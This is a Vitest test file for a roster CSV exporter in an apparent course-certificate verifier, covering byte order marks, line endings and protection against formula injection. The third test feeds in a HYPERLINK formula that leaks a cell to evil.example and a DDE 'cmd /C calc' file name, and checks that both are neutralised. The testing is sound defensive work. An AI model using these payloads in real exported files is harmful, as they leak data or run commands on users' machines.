import { beforeAll, describe, expect, it } from 'vitest';
import type { SigningKey } from '@/lib/signing/jws';
import { newSigningKey } from '@/lib/signing/testing';
import { BYTE_ORDER_MARK, neutraliseFormula } from '@/lib/csv/csv';
import { parseCsv } from '@/lib/csv/testing';
import type { Verification } from '@/lib/verify/types';
import { finalSlots } from '@/content/questions/final';
import { answersWithCorrect } from '@/lib/certificates/testing/fixtures';
import { drawPrecheck } from '@/lib/grading/precheck';
import { ROSTER_CSV_HEADER, rosterCsv } from './csv';
import { buildRoster } from './roster';
import { assignmentToken, certificate } from './testing';

let key: SigningKey;
beforeAll(async () => {
  key = await newSigningKey();
});

const column = (name: (typeof ROSTER_CSV_HEADER)[number]) => ROSTER_CSV_HEADER.indexOf(name);

function read(csv: string): string[][] {
  expect(csv.startsWith(BYTE_ORDER_MARK)).toBe(true);
  return parseCsv(csv.slice(BYTE_ORDER_MARK.length));
}

describe('rosterCsv', () => {
  it('writes a header and one row per roster row, each as wide as the header', async () => {
    const { token, id } = await assignmentToken(key, { course: 'Clerkship, block 3', due: '2026-12-15' });
    const precheck = answersWithCorrect(
      drawPrecheck(finalSlots, () => 0.99),
      4,
    );
    const late = await certificate(key, {
      name: 'Ana Lima',
      now: '2026-12-16T08:00:00Z',
      assignment: token,
      precheck,
    });
    const tampered: Verification = {
      valid: false,
      reason: 'tampered',
      message: 'The signature does not match the content: it was changed, so it is not valid.',
    };
    const rows = read(
      rosterCsv(
        buildRoster([
          { source: 'ana.pdf', result: late.credential },
          { source: 'pasted code 1', result: tampered },
          { source: 'ana-qr', result: late.printed },
        ]),
      ),
    );
    expect(rows[0]).toEqual([...ROSTER_CSV_HEADER]);
    expect(rows).toHaveLength(4);
    for (const row of rows) expect(row).toHaveLength(ROSTER_CSV_HEADER.length);
    expect(rows[1]).toEqual([
      '1',
      'ana.pdf',
      'yes',
      '',
      'Ana Lima',
      '2026-12-16',
      '100',
      '4',
      String(Object.keys(precheck).length),
      'Clerkship, block 3',
      // The id is random base64url, so it may begin with '-': then it is written as text a spreadsheet will
      // not run as a formula.
      neutraliseFormula(id),
      '2026-12-15',
      'Late',
      'Same name and assignment as row 3',
      'Full credential',
      late.credential.valid ? late.credential.credentialId : 'not valid',
    ]);
    expect(rows[2]!.slice(0, 5)).toEqual([
      '2',
      'pasted code 1',
      'no',
      'Changed after it was signed: The signature does not match the content: it was changed, so it is not valid.',
      '',
    ]);
    expect(rows[3]![column('Certificate kind')]).toBe('QR code summary');
    expect(rows[3]![column('Credential ID')]).toBe('');
    expect(rows[3]![column('Pre-check correct')]).toBe('');
  });

  it('ends rows in CRLF and starts with a UTF-8 byte order mark', async () => {
    const ana = await certificate(key, { name: '王小明', now: '2026-12-01T08:00:00Z' });
    const csv = rosterCsv(buildRoster([{ source: 'a.json', result: ana.credential }]));
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(csv.split('\r\n')).toHaveLength(3);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('neutralises names that a spreadsheet would run as formulas, and quotes what needs quoting', async () => {
    const names = [
      '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      '+1',
      '-2',
      '@SUM(1+1)',
      'Smith, "Bobby"',
      '王小明',
      'محمد',
    ];
    const inputs = [];
    for (const name of names) {
      const { credential } = await certificate(key, { name, now: '2026-12-01T08:00:00Z' });
      inputs.push({ source: `${name}.json`, result: credential });
    }
    // A file name can hold what a printed name cannot: a line break.
    const { credential } = await certificate(key, { name: 'Ana', now: '2026-12-01T08:00:00Z' });
    inputs.push({ source: '=cmd|\' /C calc\'!A0,\n"x".json', result: credential });

    const csv = rosterCsv(buildRoster(inputs));
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    const rows = read(csv).slice(1);
    expect(rows.map((row) => row[column('Name')])).toEqual([
      `'=HYPERLINK("https://evil.example/?"&A1,"Open")`,
      "'+1",
      "'-2",
      "'@SUM(1+1)",
      'Smith, "Bobby"',
      '王小明',
      'محمد',
      'Ana',
    ]);
    expect(rows[7]![column('Checked from')]).toBe(`'=cmd|' /C calc'!A0,\n"x".json`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
